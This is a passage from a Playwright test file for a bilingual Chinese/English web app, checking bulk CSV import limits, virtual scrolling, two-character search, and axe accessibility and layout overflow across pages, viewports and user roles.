  await visit.page.locator('label.btn input[type=file]').setInputFiles({ name: '名册.csv', mimeType: 'text/csv', buffer: Buffer.from('单位名称,类别\n' + Array.from({ length: 2100 }, (_, at) => `某某样本公司${at},企业\n`).join('')) })
  await visit.page.locator('.tog', { hasText: '新增 2100' }).waitFor()
  await visit.page.getByText('只列前 2000 行').waitFor()
  await done(visit)
})

test('a long list scrolls to its end with few rows in the page, and finds words of two characters', async () => {
  const visit = await signedIn('/commitments')
  await visit.page.waitForSelector('.tbl.rows .goal')
  const { total } = await visit.page.evaluate(async () => (await fetch('/api/v1/commitments?size=1')).json())
  await visit.page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight))
  await visit.page.waitForSelector(`tr[aria-rowindex="${total + 1}"] .goal`)
  assert.ok(await visit.page.locator('.tbl.rows tbody tr').count() < 60)
  const title = await visit.page.locator('.tbl.rows .goal b a').first().textContent()
  const two = /[\u4e00-\u9fff]{2}/.exec(title)[0]
  await visit.page.fill('.commit-filter input[type=search]', two)
  await visit.page.waitForURL((url) => url.searchParams.get('search') === two)
  await visit.page.waitForFunction((word) => [...document.querySelectorAll('.tbl.rows .goal')].length > 0 && document.querySelector('.tbl.rows .goal')?.parentElement?.textContent?.includes(word), two)
  await done(visit)
})

/** Everybody sees the same pages; these see one more. */
const kMore = { reporter: ['/reporting', '/things/ask'], checker: ['/checks'], keeper: ['/accounts'] }

/** Looks at pages as they stand: nothing serious for axe, nothing over the side; says in a line what axe found. */
async function inspect(visit, paths, language, viewport) {
  await visit.page.evaluate((chosen) => localStorage.setItem('luoshi.language', chosen), language)
  for (const path of paths) {
    await visit.page.goto(base + path)
    await visit.page.waitForSelector('.page-head h1, .sheet h1')
    await visit.page.waitForFunction(() => document.querySelectorAll('.panel, .warmap, .empty, .sheet').length > 0 && !/正在读取|Reading/.test(document.querySelector('main').innerText) || document.querySelector('h1').innerText.match(/没有这一页|No such/))
    await visit.page.evaluate(axe)
    const found = await visit.page.evaluate(async () => {
      const { violations, passes } = await window.axe.run(document, { resultTypes: ['violations'] })
      return { passes: passes.length, violations: violations.map((each) => ({ impact: each.impact, what: `${each.id}: ${each.nodes[0].html.slice(0, 120)}` })) }
    })
    const serious = found.violations.filter((each) => each.impact === 'serious' || each.impact === 'critical')
    console.log(`axe | ${path} | ${viewport.width} | ${language} | rules met ${found.passes} | serious ${serious.length} | lesser ${found.violations.length - serious.length}`)
    assert.deepEqual(serious.map((each) => each.what), [], `${path} in ${language}`)
    const over = await visit.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
    assert.ok(over <= 0, `${path} in ${language} runs ${over} px over the side`)
    if (shots && language === 'zh') await visit.page.screenshot({ path: `${shots}/${path.slice(1).replace(/\W+/g, '_') || 'overview'}_${viewport.width}.png`, fullPage: true })
  }
}

for (const viewport of [kWide, kPhone])
  test(`every page at ${viewport.width} px: nothing serious for axe, nothing sideways, in both languages`, async () => {
    const visit = await signedIn('/', viewport)
    const { id } = await openPaper(visit.page)
    const commitments = await visit.page.evaluate(async () => (await (await fetch('/api/v1/commitments?size=1')).json()).items)
    const sections = await visit.page.evaluate(async () => (await (await fetch('/api/v1/enough')).json()).sections.filter((each) => each.asset).slice(0, 1))
    const pages = ['/', '/documents', `/documents/${id}`, '/questions', '/commitments', ...commitments.map((each) => `/commitments/${each.id}`), '/ledger', '/ledger/events/1', '/settings', '/nowhere', '/map', '/map?view=table', '/enough', '/water', ...sections.map((each) => `/enough/${each.asset}`), ...sections.map((each) => `/enough/${each.asset}/sheet`)]
    for (const language of ['zh', 'en']) await inspect(visit, pages, language, viewport)
    await done(visit)
    for (const [part, paths] of Object.entries(kMore)) {
      if (!kParts[part]) continue
      const one = await signedIn(paths[0], viewport, part)
      for (const language of ['zh', 'en']) await inspect(one, paths, language, viewport)
      await done(one)
    }
  })
